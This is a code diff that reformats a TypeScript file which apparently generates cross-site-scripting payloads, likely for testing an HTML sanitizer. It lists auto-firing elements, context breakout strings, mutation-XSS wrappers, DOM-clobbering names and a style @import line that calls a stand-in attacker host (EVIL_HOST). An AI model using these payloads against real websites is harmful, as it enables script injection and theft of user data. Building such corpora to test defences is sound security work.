@@ -17,35 +17,20 @@ const mixed = (text: string): string => [...text].map((c, i) => (i % 2 ? c.toUpp
 /** Elements, with what they need beside the handler to fire it by themselves. */
 const ELEMENTS = [
   ...['img src=x', 'image src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'video><source src=x', 'details open', 'input autofocus'],
+  // biome-ignore format: a list
   ...[
-    'select autofocus',
-    'textarea autofocus',
-    'button autofocus',
-    'a href=# autofocus tabindex=1',
-    'marquee',
-    'iframe',
+    'select autofocus', 'textarea autofocus', 'button autofocus', 'a href=# autofocus tabindex=1', 'marquee', 'iframe',
     'iframe src=about:blank',
   ],
+  // biome-ignore format: a list
   ...[
-    'object data=x',
-    'embed src=x',
-    'style',
-    'link rel=stylesheet href=x',
-    'script src=x',
-    'svg><animate attributeName=x dur=1s',
+    'object data=x', 'embed src=x', 'style', 'link rel=stylesheet href=x', 'script src=x', 'svg><animate attributeName=x dur=1s',
     'svg><set attributeName=x',
   ],
+  // biome-ignore format: a list
   ...[
-    'svg><image href=x',
-    'svg><use href=x',
-    'math',
-    'p contenteditable autofocus',
-    'div tabindex=1 autofocus',
-    'table background=x',
-    'td',
-    'h1',
-    'span',
-    'custom-element',
+    'svg><image href=x', 'svg><use href=x', 'math', 'p contenteditable autofocus', 'div tabindex=1 autofocus', 'table background=x',
+    'td', 'h1', 'span', 'custom-element',
   ],
   ...['input type=image src=x', 'picture><img src=x', 'dialog open', 'meter', 'keygen autofocus', 'isindex', 'frameset', 'bgsound src=x'],
 ];
@@ -155,69 +140,25 @@ const CORES: Make[] = [
   (n) => `<style>@import'//${EVIL_HOST}/${n}'</style>`,
 ];
 const BREAKOUTS = [
+  // biome-ignore format: a list
   ...[
-    '"',
-    "'",
-    '">',
-    "'>",
-    '`>',
-    '</p>',
-    '</div>',
-    '</td></tr></table>',
-    '</textarea>',
-    '</title>',
-    '</style>',
-    '</script>',
-    '-->',
-    '--!>',
-    ']]>',
+    '"', "'", '">', "'>", '`>', '</p>', '</div>', '</td></tr></table>', '</textarea>', '</title>', '</style>', '</script>', '-->',
+    '--!>', ']]>',
   ],
+  // biome-ignore format: a list
   ...[
-    '</noscript>',
-    '</xmp>',
-    '</template>',
-    '</svg>',
-    '</math>',
-    '</select>',
-    '</option>',
-    '</iframe>',
-    '</noembed>',
-    '</plaintext>',
+    '</noscript>', '</xmp>', '</template>', '</svg>', '</math>', '</select>', '</option>', '</iframe>', '</noembed>', '</plaintext>',
     '</span></li>',
   ],
+  // biome-ignore format: a list
   ...[
-    '<!--',
-    '<!-->',
-    '<!--->',
-    '<![CDATA[',
-    '<?xml version="1.0"?>',
-    '<!DOCTYPE html [<!ENTITY x "y">]>',
-    '*/',
-    '\\";',
-    "\\';",
-    '";',
-    "';",
-    '${',
-    '{{',
-    '\\u003c/script\\u003e',
+    '<!--', '<!-->', '<!--->', '<![CDATA[', '<?xml version="1.0"?>', '<!DOCTYPE html [<!ENTITY x "y">]>', '*/', '\\";', "\\';", '";',
+    "';", '${', '{{', '\\u003c/script\\u003e',
   ],
+  // biome-ignore format: a list
   ...[
-    '<a title="',
-    "<p title='",
-    '<p id="</p>',
-    '&quot;&gt;',
-    '&lt;/p&gt;',
-    '\ufeff',
-    '\u202e',
-    '\u200b',
-    '<\u0000',
-    '<scr<script>ipt>',
-    '<<',
-    '< ',
-    '</ ',
-    '<%',
-    '<?',
-    '<!',
+    '<a title="', "<p title='", '<p id="</p>', '&quot;&gt;', '&lt;/p&gt;', '\ufeff', '\u202e', '\u200b', '<\u0000', '<scr<script>ipt>',
+    '<<', '< ', '</ ', '<%', '<?', '<!',
   ],
 ];
 const breakouts = (): Make[] =>
@@ -229,36 +170,15 @@ const breakouts = (): Make[] =>
     ),
   );
 
+// biome-ignore format: a list
 const FOREIGN = [
-  'svg',
-  'math',
-  'svg><foreignObject',
-  'svg><desc',
-  'svg><title',
-  'math><mtext',
-  'math><mi',
-  'math><annotation-xml encoding="text/html"',
+  'svg', 'math', 'svg><foreignObject', 'svg><desc', 'svg><title', 'math><mtext', 'math><mi', 'math><annotation-xml encoding="text/html"',
   'math><mtext><table><mglyph',
 ];
+// biome-ignore format: a list
 const RAW_TEXT = [
-  'style',
-  'script',
-  'xmp',
-  'iframe',
-  'noembed',
-  'noframes',
-  'noscript',
-  'textarea',
-  'title',
-  'template',
-  'plaintext',
-  'select',
-  'option',
-  'table',
-  'form',
-  'p',
-  'h1',
-  'li',
+  'style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'textarea', 'title', 'template', 'plaintext', 'select',
+  'option', 'table', 'form', 'p', 'h1', 'li',
 ];
 const HIDDEN: ((core: string, raw: string) => string)[] = [
   (core, raw) => `<${raw}><!--</${raw}>${core}-->`,
@@ -336,21 +256,10 @@ const TEMPLATES: Make[] = [
   (n) => `{"type":"img","props":{"src":"x","onError":"${code(n)}"}}`,
 ];
 /** Names by which a page's own objects could be hidden behind elements. */
+// biome-ignore format: a list
 const CLOBBERING = [
-  '__proto__',
-  'document',
-  'cookie',
-  'getElementById',
-  'attributes',
-  'nodeName',
-  'parentNode',
-  'childNodes',
-  'innerHTML',
-  'root',
-  'content',
-  'boot',
-  'location',
-  'body',
+  '__proto__', 'document', 'cookie', 'getElementById', 'attributes', 'nodeName', 'parentNode', 'childNodes', 'innerHTML', 'root',
+  'content', 'boot', 'location', 'body',
 ];
 const clobbering = (): Make[] =>
   CLOBBERING.flatMap((name): Make[] => [
